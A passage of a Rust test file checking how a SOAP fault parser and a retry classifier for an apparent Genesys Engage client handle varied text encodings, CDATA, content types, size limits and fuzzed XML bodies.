        xml.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect()
    };
    for (what, body) in [
        ("UTF-16LE", utf16([0xFF, 0xFE], u16::to_le_bytes)),
        ("UTF-16BE", utf16([0xFE, 0xFF], u16::to_be_bytes)),
        ("ISO-8859-1", latin1("ISO-8859-1")),
        ("latin1", latin1("latin1")),
    ] {
        let c = classify_with(&GenesysEngage::default(), &Req::plain(), 500, Some(SOAP11), Body::Complete(&body));
        assert_eq!(c.body, BodyUse::Parsed, "{what}: {}", c.reason);
        assert_eq!((c.kind, c.code()), (Kind::Transient, Some("INTERNAL_ERROR")), "{what}");
        assert_eq!(c.errors[0].message.as_deref(), Some("Erreur interne, réessayez"), "{what}");
        assert_eq!(parse_fault(&body).unwrap().errors[0].code, "INTERNAL_ERROR", "{what}");
    }
    // Not what they say they are, or an encoding not read: the status rules.
    let mut odd = utf16([0xFF, 0xFE], u16::to_le_bytes);
    odd.push(b'>');
    let lone_surrogate: Vec<u8> = [0xFF, 0xFE, 0x00, 0xD8, b'<', 0].to_vec();
    let mut cp1252 = latin1("windows-1252");
    cp1252.push(0x80);
    let no_bom = xml.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    for (what, body) in [
        ("odd length", odd),
        ("lone surrogate", lone_surrogate),
        ("windows-1252", cp1252),
        ("UTF-16 without BOM", no_bom),
    ] {
        let c = classify_with(&GenesysEngage::default(), &Req::plain(), 500, Some(SOAP11), Body::Complete(&body));
        assert_eq!(c.body, BodyUse::Fallback, "{what}: {}", c.reason);
        assert!(parse_fault(&body).is_none(), "{what}");
    }
}

#[test]
fn text_cdata_bom_and_charset() {
    let body = "\u{feff}<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><soapenv:Fault><faultcode>soapenv:Server</faultcode><faultstring><![CDATA[Erreur <interne>]]></faultstring><detail><error><code>\n  INTERNAL_ERROR  \n</code><message><![CDATA[x < y]]> &amp; z</message><argumentIndex>nope</argumentIndex></error></detail></soapenv:Fault></soapenv:Body></soapenv:Envelope>";
    let f = parse_fault(body.as_bytes()).unwrap();
    assert_eq!(f.reason.as_deref(), Some("Erreur <interne>"));
    assert_eq!(f.errors[0].code, "INTERNAL_ERROR");
    assert_eq!(f.errors[0].message.as_deref(), Some("x < y & z"));
    assert_eq!(f.errors[0].argument_index, None);
    for ct in [SOAP11, SOAP12, "application/xml", "text/plain", "application/json"] {
        let c = classify_with(
            &GenesysEngage::default(),
            &Req::op("createCampaign"),
            500,
            Some(ct),
            Body::Complete(body.as_bytes()),
        );
        assert_eq!(c.advice.action(), Action::Retry, "{ct}");
    }
}

#[test]
fn a_body_past_the_inspect_limit_uses_the_status() {
    let body = fault11(&["NO_SESSION"]);
    let c = classify_with(&GenesysEngage::default(), &Req::plain(), 500, Some(SOAP11), Body::Prefix(body.as_bytes()));
    assert_eq!(c.body, BodyUse::TooLarge);
    assert!(c.errors.is_empty());
    let c = classify_with(&GenesysEngage::default(), &Req::plain(), 200, Some(SOAP11), Body::NotRead);
    assert_eq!(c.kind, Kind::Success);
}

#[test]
fn inspects_errors_and_xml_successes() {
    let p = GenesysEngage::default();
    let req = Req::plain();
    let now = SystemTime::now();
    for (status, ct, want) in [
        (200, Some(SOAP11), true),
        (200, Some(SOAP12), true),
        (200, Some("application/xop+xml; type=\"text/xml\""), true),
        (200, Some("application/json"), false),
        // Only `xml` or a `+xml` suffix is XML: a long subtype is not, whatever its length.
        (200, Some("application/octet-stream"), false),
        (200, Some("text/plain"), false),
        // A suffix needs a subtype before it.
        (200, Some("application/+xml"), false),
        (200, None, false),
        (500, None, true),
        (404, Some("text/html"), true),
    ] {
        let mut h = HeaderMap::new();
        if let Some(ct) = ct {
            h.insert(CONTENT_TYPE, HeaderValue::from_str(ct).unwrap());
        }
        let res = ResponseHead { status: StatusCode::from_u16(status).unwrap(), headers: &h, received_at: now };
        assert_eq!(p.inspect(&req.head(), &res), want, "{status} {ct:?}");
    }
}

#[test]
fn policy_and_hosts() {
    let p = policy();
    assert_eq!(p.max_attempts(), 3);
    assert!(p.deadline().unwrap() >= 30 * S + 3 * p.attempt_timeout().unwrap());
    assert!(HOSTS.is_empty());
    assert_eq!(GenesysEngage::default().name(), "genesys-engage");
}

proptest! {
    #[test]
    fn any_body_any_status_never_panics(
        body in proptest::collection::vec(any::<u8>(), 0..512),
        status in 100u16..600,
        ct in 0usize..4,
        prefix: bool,
        idempotent: bool,
        request_body in proptest::option::of(proptest::collection::vec(any::<u8>(), 0..256)),
    ) {
        let ct = [None, Some(SOAP11), Some(SOAP12), Some("application/json")][ct];
        let req = Req { body: request_body, ..Req::plain() };
        let body = if prefix { Body::Prefix(&body) } else { Body::Complete(&body) };
        let c = classify_with(&GenesysEngage::default(), &req, status, ct, body);
        let _ = decide_at(&c, 1, &[], idempotent, true);
        let _ = parse_fault(body.bytes());
    }

    #[test]
    fn xml_shaped_bodies_never_panic(
        parts in proptest::collection::vec(prop_oneof![
            Just("<soap:Envelope xmlns:soap=\"x\">"), Just("</soap:Envelope>"), Just("<soap:Body>"), Just("</soap:Body>"),
            Just("<soap:Fault>"), Just("</soap:Fault>"), Just("<faultcode>"), Just("</faultcode>"), Just("<detail>"), Just("</detail>"),
            Just("<error>"), Just("</error>"), Just("<errors>"), Just("</errors>"), Just("<code>"), Just("</code>"),
            Just("<argumentIndex>"), Just("</argumentIndex>"), Just("<context/>"), Just("INTERNAL_ERROR"), Just("NO_SESSION"),
            Just("&amp;"), Just("&x;"), Just("&#0;"), Just("&#xFFFFFFFF;"), Just("<![CDATA[a]]>"), Just("<!-- c -->"), Just("<?pi x?>"),
            Just("<!DOCTYPE a>"), Just(" "),
        ], 0..40),
        status in 100u16..600,
    ) {
        let body: String = parts.concat();
        let c = classify(&Req::op("createSubCampaign"), status, &body);
        let _ = decide_at(&c, 1, &[], false, true);
    }
}
